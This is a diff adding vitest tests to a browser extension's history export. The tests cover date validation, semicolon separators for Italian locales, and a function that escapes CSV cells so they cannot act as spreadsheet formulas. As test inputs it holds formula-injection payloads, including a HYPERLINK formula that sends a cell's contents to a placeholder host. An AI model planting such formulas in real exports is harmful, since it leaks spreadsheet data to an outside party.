@@ -1,6 +1,8 @@
 import { beforeEach, describe, expect, it } from 'vitest';
 import { fakeBrowser } from 'wxt/testing/fake-browser';
 import {
+  csvCell,
+  csvSeparatorFor,
   type HistoryEntry,
   historyCsv,
   historyJson,
@@ -53,6 +55,38 @@ describe('history (pure)', () => {
     expect(parsed[0]).toMatchObject({ answers: { outcome: 'works' }, results: [] });
   });
 
+  it.each([1e20, -1, Number.MAX_VALUE])('drops an entry whose time Date cannot format (%s)', (at) => {
+    expect(parseHistory([{ ...entry(3) }, { ...entry(4), at }]).map((e) => e.at)).toEqual([3]);
+    expect(parseHistory([{ ...entry(3), answeredAt: at }])[0]?.answeredAt).toBeUndefined();
+  });
+
+  it.each([
+    ['=HYPERLINK("https://x.example/?"&G2,"Open")', `"'=HYPERLINK(""https://x.example/?""&G2,""Open"")"`],
+    ['=1+2@gmail.com', "'=1+2@gmail.com"],
+    ['+39 333', "'+39 333"],
+    ['-5', "'-5"],
+    ['@SUM(A1)', "'@SUM(A1)"],
+    ['\tcmd', "'\tcmd"],
+    ['\rcmd', `"'\rcmd"`],
+    ['Aruba', 'Aruba'],
+    ['Studio; Rossi', 'Studio; Rossi'],
+  ])('a CSV cell is never a live formula: %j', (value, expected) => {
+    expect(csvCell(value)).toBe(expected);
+  });
+
+  it('uses ; where the locale writes decimals with a comma (Italian Excel), quoting cells that hold it', () => {
+    expect(csvSeparatorFor('it')).toBe(';');
+    expect(csvSeparatorFor('en')).toBe(',');
+    expect(csvCell('Studio; Rossi', ';')).toBe('"Studio; Rossi"');
+    const csv = historyCsv([entry(0, { providerName: 'A; B' })], {
+      header: ['a', 'b'],
+      verdictName: () => 'x',
+      when: () => 'w',
+      separator: ';',
+    });
+    expect(csv.split('\r\n')[1]).toBe('w;1970-01-01T00:00:00.000Z;"A; B";mail-service;x;login-refused;');
+  });
+
   it.each([undefined, null, {}, 'history', 42])('reads %j as an empty history', (value) => {
     expect(parseHistory(value)).toEqual([]);
   });
@@ -64,7 +98,7 @@ describe('history (pure)', () => {
       when: () => '25/11/2026',
     });
     expect(csv).toBe(
-      'when,iso_time,provider,verdict,verdict_name,reason,address\r\n' +
+      '\uFEFFwhen,iso_time,provider,verdict,verdict_name,reason,address\r\n' +
         '25/11/2026,2026-11-25T08:00:00.000Z,"Studio ""A"", B",mail-service,Mail service,login-refused,',
     );
     expect(JSON.parse(historyJson([entry(1)]))).toEqual({
